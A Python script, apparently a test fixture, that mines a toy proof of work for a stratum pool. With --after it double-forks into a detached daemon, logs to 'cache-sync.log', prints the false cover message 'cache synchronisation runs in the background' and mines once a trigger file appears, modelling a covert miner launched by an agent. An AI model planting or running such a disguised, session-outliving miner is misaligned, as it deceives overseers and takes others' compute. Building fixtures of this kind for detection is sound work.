#!/usr/bin/python3
"""Mine the toy proof of work for a stratum pool. With --after FILE: become a daemon that starts when FILE exists."""

# ruff: noqa: D103 - a script, read by nobody but its interpreter

from __future__ import annotations

import argparse
import hashlib
import itertools
import json
import os
import socket
import sys
import time
from typing import Any


def is_share(job: bytes, nonce: bytes, bits: int) -> bool:
    digest = hashlib.sha256(job + nonce).digest()
    return int.from_bytes(digest, "big") >> (256 - bits) == 0


def mine(address: tuple[str, int], user: str, wanted: int) -> int:
    """Deliver ``wanted`` shares; return how many the pool accepted."""
    accepted = 0
    with socket.create_connection(address, timeout=3) as sock, sock.makefile("rb") as lines:

        def call(number: int, method: str, params: object) -> dict[str, Any]:
            message = {"id": number, "jsonrpc": "2.0", "method": method, "params": params}
            sock.sendall(json.dumps(message).encode() + b"\n")
            line = lines.readline()
            if not line:
                raise ConnectionError("the pool hung up")
            answer: dict[str, Any] = json.loads(line)
            return answer

        call(1, "mining.subscribe", ["toy-miner/1.0"])
        call(2, "mining.authorize", [user, "x"])
        work = json.loads(lines.readline())["params"]
        job, bits = bytes.fromhex(work["blob"]), work["target_bits"]
        for counter in itertools.count():
            nonce = counter.to_bytes(8, "big")
            if is_share(job, nonce, bits):
                answer = call(10 + accepted, "mining.submit", [user, work["job_id"], nonce.hex()])
                accepted += bool(answer["result"])
                if accepted >= wanted:
                    break
    return accepted


def become_daemon(log: str) -> bool:
    """The double fork: detached from shell, session and terminal. False in the process that the shell waits for."""
    if os.fork():
        os.wait()
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    target = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    for descriptor in (0, 1, 2):
        os.dup2(target, descriptor)
    return True


def wait_for(path: str, seconds: float) -> None:
    """Until the file exists, or the time is up."""
    deadline = time.monotonic() + seconds
    while not os.path.exists(path) and time.monotonic() < deadline:  # noqa: PTH110 - as an agent would write it
        time.sleep(0.05)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("-o", "--url", required=True)
    parser.add_argument("-u", "--user", default="48toyWALLETtoy")
    parser.add_argument("--shares", type=int, default=5)
    parser.add_argument("--after", metavar="FILE")
    options = parser.parse_args()
    if options.after:
        if not become_daemon("cache-sync.log"):
            sys.stdout.write("cache synchronisation runs in the background\n")
            return 0
        wait_for(options.after, 30)
    host, _, port = options.url.removeprefix("stratum+tcp://").rpartition(":")
    for attempt in (1, 2):
        try:
            accepted = mine((host, int(port)), options.user, options.shares)
        except (OSError, ValueError) as error:
            sys.stdout.write(f"attempt {attempt}: {error}\n")
        else:
            sys.stdout.write(f"{accepted} shares accepted\n")
            return 0
    return 1


if __name__ == "__main__":
    sys.exit(main())
